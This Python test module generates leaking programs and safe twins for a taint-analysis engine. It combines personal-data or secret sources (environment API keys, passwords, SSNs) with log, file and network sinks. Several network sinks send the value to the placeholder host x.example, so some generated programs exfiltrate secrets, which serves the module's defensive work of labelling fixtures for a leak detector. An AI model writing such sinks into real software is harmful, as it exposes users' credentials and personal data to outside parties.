"""Programs that hold personal data or a secret: source x passage x sink over one to three files, by seed.

Every source gives an object with a telling part and a plain one; the safe twin shows the plain one. Labels come from
running the programs with canaries (``running.label``). Nothing here knows how the engine works.
"""

from __future__ import annotations

import random

from tests.plugins.maestro_taint.twins.cases import Twin

# (kind, declarations, expression of the object made from ``value``, telling part, plain part of ``o``)
SOURCES = (
    ("pii", "@dataclass\nclass Person:\n    ident: int\n    email: str\n", "Person(7, value)", "o.email", "o.ident"),
    ("pii", "class Person(NamedTuple):\n    ident: int\n    phone: str\n", "Person(7, value)", "o.phone", "o.ident"),
    ("pii", "class Person(NamedTuple):\n    ident: int\n    ssn: str\n", "Person(7, value)", "o[1]", "o[0]"),
    ("pii", "class Person(TypedDict):\n    ident: int\n    iban: str\n", "Person(ident=7, iban=value)", "o['iban']",
     "o['ident']"),
    ("pii", ("class Person:\n    def __init__(self, ident: int, mobile: str) -> None:\n        self.ident = ident\n"
     "        self.mobile = mobile\n"), "Person(7, value)", "o.mobile", "o.ident"),
    ("pii", ("class Person:\n    def __init__(self, ident, text):\n        self.ident: int = ident\n"
     "        self.home_address: str = text\n"), "Person(7, value)", "o.home_address", "o.ident"),
    ("pii", "@dataclass\nclass Base:\n    ident: int\n@dataclass\nclass Person(Base):\n    date_of_birth: str = ''\n",
     "Person(7, value)", "o.date_of_birth", "o.ident"),
    ("pii", ("@dataclass\nclass Contact:\n    email: str\n"
     "@dataclass\nclass Person:\n    ident: int\n    contact: Contact\n"),
     "Person(7, Contact(value))", "o.contact.email", "o.ident"),
    ("pii", ("def fetch(value):\n    db = sqlite3.connect(':memory:')\n"
     "    db.execute('CREATE TABLE p (ident INTEGER, email TEXT)')\n"
     "    db.execute('INSERT INTO p VALUES (7, ?)', (value,))\n"
     "    return db.execute('SELECT ident, email FROM p').fetchone()\n"), "fetch(value)", "o[1]", "o[0]"),
    ("pii", ("def fetch(value):\n    cur = sqlite3.connect(':memory:').cursor()\n"
     "    cur.execute('CREATE TABLE p (ident INTEGER, phone TEXT)')\n"
     "    cur.execute('INSERT INTO p VALUES (7, ?)', (value,))\n    cur.execute('SELECT phone, ident FROM p')\n"
     "    return cur.fetchall()[0]\n"), "fetch(value)", "o[0]", "o[1]"),
    ("secret", "", "{'token': os.environ['APP_API_KEY'], 'ident': 7}", "o['token']", "o['ident']"),
    ("secret", ("class Conf:\n    def __init__(self):\n        self.key = os.getenv('APP_SECRET_KEY')\n"
     "        self.ident = 7\n"), "Conf()", "o.key", "o.ident"),
    ("secret", "class Conf:\n    key = os.environ.get('DB_PASSWORD')\n    ident = 7\n", "Conf()", "o.key", "o.ident"),
    ("secret", "def ask():\n    return getpass.getpass(), 7\n", "ask()", "o[0]", "o[1]"),
)  # fmt: skip
PASSAGES = (
    "r = {e}", "r = f'<{{{e}}}>'", "r = 'x %s' % ({e},)", "r = '{{}}'.format({e})", "r = json.dumps({{'k': {e}}})",
    "r = str({e}).upper().lower()", "r = [x for x in [1, {e}]][1]", "r = (lambda v: v)({e})",
    "r = base64.b64encode(str({e}).encode()).decode()", "r = dict(k={e})['k']", "r = next(iter([{e}]))",
    "r = {e} if o else ''", "r = ' '.join(['a', str({e})])", "r = copy.deepcopy([{e}])[0]",
    "r = shown({e})", "q = queue.Queue(); q.put({e}); r = q.get()", "r = functools.partial(shown, {e})()",
    "r = urllib.parse.quote(str({e}), safe='@')", "b = io.StringIO(); b.write(str({e})); r = b.getvalue()",
    "r = repr([{e}])",
)  # fmt: skip
# (channel, statements that show ``r``)
SINKS = (
    ("log", "logging.info('seen %s', r)"), ("log", "logging.getLogger('x').warning('seen ' + str(r))"),
    ("log", "print('seen', r)"), ("log", "sys.stderr.write(str(r))"), ("log", "LOG.error(f'seen {r}')"),
    ("log", "try:\n        raise ValueError(f'bad {r}')\n    except ValueError:\n        logging.exception('failed')"),
    ("log", "try:\n        fail(r)\n    except RuntimeError as error:\n        logging.error('failed: %s', error)"),
    ("log", "try:\n        fail(r)\n    except RuntimeError:\n        logging.error('failed', exc_info=True)"),
    ("log", "try:\n        fail(r)\n    except RuntimeError:\n        print(traceback.format_exc())"),
    ("log", "warnings.warn(str(r), stacklevel=1)"), ("log", "pprint.pprint({'v': r})"),
    ("log", "LOG.log(logging.INFO, '%s', {'v': r})"), ("log", "print(f'{r=}')"),
    ("file", "with open('out.txt', 'w') as f:\n        f.write(str(r))"),
    ("file", "pathlib.Path('out.txt').write_text(str(r))"),
    ("file", "with open('out.json', 'w') as f:\n        json.dump({'v': r}, f)"),
    ("file", "with open('out.csv', 'w') as f:\n        csv.writer(f).writerow(['a', r])"),
    ("file", "with open('out.txt', 'w') as f:\n        print(r, file=f)"),
    ("file", "with tempfile.NamedTemporaryFile('w', dir='.', delete=False) as f:\n        f.write(str(r))"),
    ("net", "requests.post('https://x.example/', json={'v': r}, timeout=2)"),
    ("net", "requests.get('https://x.example/?v=' + str(r), timeout=2)"),
    ("net", "requests.Session().put('https://x.example/', data=str(r), timeout=2)"),
    ("net", "urllib.request.urlopen('https://x.example/?v=' + str(r))"),
    ("net", "requests.get('https://x.example/', params={'v': r}, timeout=2)"),
    ("net", "requests.get('https://x.example/', headers={'X-V': str(r)}, timeout=2)"),
)  # fmt: skip
HEAD = (
    "import base64, copy, csv, functools, getpass, io, json, logging, os, pathlib, pprint, queue, sqlite3, sys\n"
    "import tempfile, traceback, urllib.parse, urllib.request, warnings\nfrom dataclasses import dataclass\n"
    "from typing import NamedTuple, TypedDict\nimport requests\nLOG = logging.getLogger(__name__)\n"
)
HELP = "def shown(v):\n    return str(v)\ndef fail(v):\n    raise RuntimeError('cannot use ' + str(v))\n"


def pair(seed: int) -> tuple[Twin, Twin]:
    """The leaking program and its twin."""
    rng = random.Random(seed)  # noqa: S311 - the same programs for the same seed
    kind, declared, made, telling, plain = rng.choice(SOURCES)
    channel, shows = rng.choice(SINKS)
    steps = [rng.choice(PASSAGES) for _ in range(rng.choice((1, 1, 2)))]
    files = rng.choice((1, 2, 3))
    name = f"personal {seed}"
    rule = f"taint-{kind}-{channel}"
    leak, safe = (
        Twin(name, "pii", _files(declared, made, part, (steps, shows), files), telling == part, (rule,), "")
        for part in (telling, plain)
    )
    return leak, safe


def _files(declared: str, made: str, part: str, uses: tuple[list[str], str], count: int) -> dict[str, str]:
    steps, shows = uses
    body = [f"    r = {part}"] + ["    " + step.format(e="r") for step in steps] + ["    " + shows]
    use = "def use(o):\n" + "\n".join(body) + "\n"
    if count == 1:
        return {"app.py": f"{HEAD}{HELP}{declared}{use}def main(value):\n    use({made})\n"}
    names = "".join(f"from model import {n}\n" for n in _defined(declared))
    if count == 2:
        return {"app.py": f"{HEAD}{names}{HELP}{use}def main(value):\n    use({made})\n", "model.py": HEAD + declared}
    return {
        "app.py": f"{HEAD}{names}from work import use\ndef main(value):\n    o = {made}\n    use(o)\n",
        "model.py": HEAD + declared,
        "work.py": f"{HEAD}{HELP}{use}",
    }


def _defined(declared: str) -> list[str]:
    lines = [line for line in declared.split("\n") if line.startswith(("class ", "def "))]
    return [line.split()[1].partition("(")[0].rstrip(":") for line in lines]
